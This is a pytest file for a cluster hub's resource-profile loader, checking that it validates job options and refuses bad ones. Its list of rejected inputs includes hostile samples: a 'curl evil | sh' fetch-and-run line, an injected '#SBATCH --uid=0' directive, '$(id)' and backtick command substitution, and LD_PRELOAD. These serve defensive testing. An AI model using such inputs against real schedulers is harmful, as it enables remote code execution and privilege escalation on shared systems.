"""Profiles validated at load time; user options resolved strictly against them."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from scitex_hub.profiles import (
    Profile,
    ResolvedResources,
    UserOptionsError,
    load_profiles,
    resolve_user_options,
)
from scitex_hub.units import format_duration, format_size, parse_duration, parse_size

GiB = 1024**3
MiB = 1024**2

PROFILES = load_profiles(
    {
        "small": {
            "display_name": "Small",
            "partition": "debug",
            "cpus": {"default": 2, "max": 4},
            "memory": {"default": "4GiB", "max": "16GiB"},
            "runtime": {"default": "04:00:00", "max": "08:00:00"},
        },
        "gpu": {
            "display_name": "GPU",
            "partitions": ["gpu", "gpu-long"],
            "cpus": 8,
            "memory": "32GiB",
            "runtime": "1-00:00:00",
            "gpus": {"default": 1, "max": 2},
            "image": "/shared/containers/gpu.sif",
            "constraint": "a100",
        },
    }
)


def test_defaults_of_the_first_allowed_profile() -> None:
    assert resolve_user_options({}, PROFILES, ["small", "gpu"], "demo") == ResolvedResources(
        profile="small",
        partition="debug",
        cpus=2,
        memory_bytes=4 * GiB,
        runtime_seconds=4 * 3600,
        gpus=0,
        account="demo",
        image=None,
        constraint=None,
        qos=None,
    )


def test_choices_inside_the_ranges() -> None:
    r = resolve_user_options(
        {"profile": "gpu", "partition": "gpu-long", "gpus": 2}, PROFILES, ["small", "gpu"]
    )
    assert (r.partition, r.gpus, r.cpus, r.memory_bytes, r.image) == (
        "gpu-long",
        2,
        8,
        32 * GiB,
        "/shared/containers/gpu.sif",
    )
    r = resolve_user_options(
        {"cpus": 1, "memory": "512MiB", "runtime": "00:30:00"}, PROFILES, ["small"]
    )
    assert (r.cpus, r.memory_bytes, r.runtime_seconds) == (1, 512 * MiB, 1800)


BAD_OPTIONS = [
    ({"cmd": "/bin/sh"}, "cmd"),
    ({"prologue": "curl evil | sh"}, "prologue"),
    ({"epilogue": "x"}, "epilogue"),
    ({"options": "--uid=0"}, "options"),
    ({"homedir": "/root"}, "homedir"),
    ({"keepvars": "LD_PRELOAD"}, "keepvars"),
    ({"account": "someone-else"}, "account"),
    ({"cpus": "4"}, "cpus"),
    ({"cpus": 2.5}, "cpus"),
    ({"cpus": True}, "cpus"),
    ({"cpus": 64}, "cpus"),
    ({"cpus": -1}, "cpus"),
    ({"memory": "64GiB"}, "memory"),
    ({"memory": "lots"}, "memory"),
    ({"memory": []}, "memory"),
    ({"runtime": "99:00:00"}, "runtime"),
    ({"runtime": "4 hours"}, "runtime"),
    ({"partition": "debug\n#SBATCH --uid=0"}, "partition"),
    ({"partition": "debug\r"}, "partition"),
    ({"partition": "debug;id"}, "partition"),
    ({"partition": "$(id)"}, "partition"),
    ({"partition": "`id`"}, "partition"),
    ({"partition": "batch"}, "partition"),
    ({"partition": "x" * 200}, "partition"),
    ({"profile": "gpu"}, "profile"),
    ({"profile": "nope"}, "profile"),
    ({"profile": ["small"]}, "profile"),
    ({"gpus": 1}, "gpus"),
]


@pytest.mark.parametrize("options,field", BAD_OPTIONS)
def test_bad_options_are_refused_naming_the_field(options: dict, field: str) -> None:
    with pytest.raises(UserOptionsError) as e:
        resolve_user_options(options, PROFILES, ["small"])
    assert e.value.field == field
    assert str(e.value).startswith(f"{field}: ")


def test_institution_without_profiles() -> None:
    with pytest.raises(UserOptionsError, match="no profiles"):
        resolve_user_options({}, PROFILES, [])


@pytest.mark.parametrize(
    "spec,message",
    [
        ({"partition": "debug\n", "cpus": 1, "memory": "1GiB", "runtime": 60}, "partition"),
        (
            {
                "partition": "debug",
                "cpus": {"default": 8, "max": 4},
                "memory": "1GiB",
                "runtime": 60,
            },
            "outside",
        ),
        ({"partition": "debug", "cpus": 1, "memory": "1 bushel", "runtime": 60}, "not a size"),
        (
            {"partition": "debug", "cpus": 1, "memory": "1GiB", "runtime": "forever"},
            "not a duration",
        ),
        ({"partition": "debug", "cpus": 1, "memory": "1GiB", "runtime": 60, "cmd": "x"}, "cmd"),
        (
            {"partition": "debug", "cpus": 1, "memory": "1GiB", "runtime": 60, "image": "rel.sif"},
            "absolute",
        ),
        (
            {"partition": "debug", "cpus": 1, "memory": "1GiB", "runtime": 60, "constraint": "a;b"},
            "feature",
        ),
    ],
)
def test_bad_profiles_fail_at_load(spec: dict, message: str) -> None:
    with pytest.raises((ValidationError, ValueError)) as e:
        load_profiles({"p": {"display_name": "P", **spec}})
    assert message in str(e.value)


def test_bad_profile_name() -> None:
    with pytest.raises(ValueError, match="profile name"):
        load_profiles({"Bad Name": PROFILES["small"]})


def test_profile_is_frozen() -> None:
    with pytest.raises(ValidationError):
        PROFILES["small"].cpus = 3  # type: ignore[misc]
    assert isinstance(PROFILES["small"], Profile)


@pytest.mark.parametrize(
    "text,size",
    [
        ("4GiB", 4 * GiB),
        ("4G", 4 * GiB),
        ("512MiB", 512 * MiB),
        ("1024", 1024),
        (2048, 2048),
        ("1T", 1024**4),
    ],
)
def test_parse_size(text: object, size: int) -> None:
    assert parse_size(text) == size


@pytest.mark.parametrize("text,seconds", [("04:00:00", 14400), ("1-02:03:04", 93784), (90, 5400)])
def test_parse_duration(text: object, seconds: int) -> None:
    assert parse_duration(text) == seconds
    assert parse_duration(format_duration(seconds)) == seconds


@pytest.mark.parametrize("text", ["00:61:00", "0:00:00", "1h", "", "-1"])
def test_parse_duration_refuses(text: str) -> None:
    with pytest.raises(ValueError):
        parse_duration(text)


def test_format_size() -> None:
    assert [format_size(v) for v in (4 * GiB, 512 * MiB, 1536, 1000)] == [
        "4GiB",
        "512MiB",
        "1536B",
        "1000B",
    ]
